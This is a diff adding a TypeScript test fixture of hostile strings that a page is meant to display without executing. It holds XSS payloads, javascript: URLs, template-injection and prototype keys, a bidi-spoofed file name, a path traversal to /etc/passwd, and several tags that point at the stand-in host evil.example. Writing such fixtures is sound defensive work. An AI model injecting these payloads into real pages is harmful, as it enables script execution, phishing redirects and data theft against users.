@@ -1,0 +1,31 @@
+// What a page must show and never obey: markup, scripts, handlers, styles, URLs, templates, bidi controls, odd keys.
+const RUN = 'globalThis.wasRun=1,alert(1)';
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `"><svg onload="${RUN}">`,
+  `'"--></style></script></title></textarea><script>${RUN}</script>`,
+  `';${RUN};//`,
+  `javascript:${RUN}`,
+  `<a href="javascript:${RUN}">click</a>`,
+  `<iframe srcdoc="<script>parent.wasRun=1</script>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<details open ontoggle="${RUN}">`,
+  '<style>*{background:url(https://evil.example/css)}</style>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/"><button>Sign in</button></form>',
+  `data:text/html,<script>${RUN}</script>`,
+  '{{constructor.constructor("alert(1)")()}}',
+  `\${${RUN}}`,
+  '&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;',
+  'admin\u202Etxt.exe\u202C',
+  ']]><![CDATA[<b>',
+  '__proto__',
+  'constructor',
+  '../../../%2e%2e/etc/passwd?x#y',
+  '$& $1 {{root}} {}',
+];
